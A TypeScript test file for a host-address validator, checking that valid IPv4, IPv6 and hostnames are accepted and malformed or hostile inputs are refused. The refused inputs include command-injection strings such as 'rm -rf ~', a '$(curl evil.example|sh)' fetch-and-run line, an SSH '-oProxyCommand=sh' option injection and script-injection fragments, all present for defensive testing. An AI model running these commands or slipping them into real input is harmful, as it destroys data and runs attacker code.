import { isHostname, isIPv4, isIPv6, parseHostAddress, urlHost } from "./host-address";

describe("parseHostAddress", () => {
  it.each([
    ["10.99.88.77", "ipv4"],
    ["0.0.0.0", "ipv4"],
    ["255.255.255.255", "ipv4"],
    ["2001:db8::1", "ipv6"],
    ["::1", "ipv6"],
    ["::", "ipv6"],
    ["fe80::", "ipv6"],
    ["2001:0db8:0000:0000:0000:ff00:0042:8329", "ipv6"],
    ["::ffff:192.0.2.1", "ipv6"],
    ["64:ff9b::192.0.2.33", "ipv6"],
    ["vm-8.example.com", "hostname"],
    ["localhost", "hostname"],
    ["example.com.", "hostname"],
  ])("accepts %j as %s", (value, kind) => {
    expect(parseHostAddress(value)?.kind).toBe(kind);
  });

  it.each([
    "",
    " ",
    "10.99.88.77; rm -rf ~",
    "10.99.88.77\nrm -rf ~",
    "$(curl evil.example|sh)",
    "`id`",
    "a b",
    'evil.example/"><script>',
    "javascript:alert(1)",
    "10.99.88.77#x",
    "10.99.88.77@evil.example",
    "10.99.88.77/path",
    "-oProxyCommand=sh",
    "host-.example",
    "-host.example",
    "256.1.1.1",
    "1.2.3",
    "1.2.3.4.5",
    "01.2.3.4",
    "1.2.3.04",
    "2001:db8::1::2",
    "2001:db8:::1",
    "1:2:3:4:5:6:7:8:9",
    "1:2:3:4:5:6:7",
    "12345::1",
    "fe80::1%eth0",
    "[2001:db8::1]",
    "::1.2.3.4:5",
    "a..b",
    ".example",
    "ex_ample.com",
    "bücher.example",
    "10.99.88.77\u0000",
    `${"a".repeat(64)}.example`,
    `${"a.".repeat(127)}aa`,
  ])("refuses %j", (value) => {
    expect(parseHostAddress(value)).toBeNull();
  });

  it("allows labels up to 63 characters and names up to 253", () => {
    expect(isHostname(`${"a".repeat(63)}.example`)).toBe(true);
    expect(isHostname(`${"a.".repeat(126)}a`)).toBe(true);
  });

  it("keeps each test on its own kind", () => {
    expect(isIPv4("::1")).toBe(false);
    expect(isIPv6("10.0.0.1")).toBe(false);
    expect(isHostname("10.0.0.1")).toBe(false);
  });
});

describe("urlHost", () => {
  it("brackets IPv6 and leaves the others alone", () => {
    expect(urlHost("2001:db8::1")).toBe("[2001:db8::1]");
    expect(urlHost("10.99.88.77")).toBe("10.99.88.77");
    expect(urlHost("vm.example")).toBe("vm.example");
    expect(urlHost("vm.example/x")).toBeNull();
  });
});
